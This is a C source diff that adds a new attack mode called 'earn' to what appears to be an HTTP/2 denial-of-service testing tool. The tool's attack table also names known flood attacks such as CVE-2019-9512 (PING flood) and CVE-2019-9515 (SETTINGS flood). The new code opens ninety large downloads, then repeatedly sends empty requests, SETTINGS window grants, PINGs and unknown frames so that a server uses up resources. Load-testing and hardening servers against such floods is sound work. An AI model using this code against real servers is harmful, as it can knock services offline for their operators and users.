@@ -97,6 +97,21 @@ static bool step_regroup(struct peer *peer) {
   return true;
 }
 
+static void begin_earn(struct peer *peer) {
+  units_begin_closed(peer);
+  for (int i = 0; i < 90; i++)
+    peer_put_request(peer, false, "/bytes/100000000", true);
+}
+
+/* Empty responses that earn a SETTINGS, which grants each of many downloads a byte; and a PING and a frame of no type. */
+static bool step_earn(struct peer *peer) {
+  if (peer->in_flight > 94) return false;
+  for (int i = 0; i < 5; i++)
+    peer_put_request(peer, false, "/bytes/0", true);
+  peer_put_setting(peer, SETTING_WINDOW, (uint32_t)peer->units + 1);
+  return units_ping(peer) && step_unknown(peer);
+}
+
 static const struct attack attacks[] = {
     {"ping", "CVE-2019-9512", units_ping, NULL, false},
     {"settings", "CVE-2019-9515", units_settings, NULL, false},
@@ -111,6 +126,7 @@ static const struct attack attacks[] = {
     {"goaway", "GOAWAY with debug data", step_goaway, NULL, false},
     {"seesaw-large", "INITIAL_WINDOW_SIZE, 32 times a frame", step_seesaw_large, begin_seesaw,
      false},
+    {"earn", "SETTINGS that requests pay for", step_earn, begin_earn, false},
     {"regroup", "PRIORITY that moves many streams", step_regroup, units_begin_wide, false},
 };
 
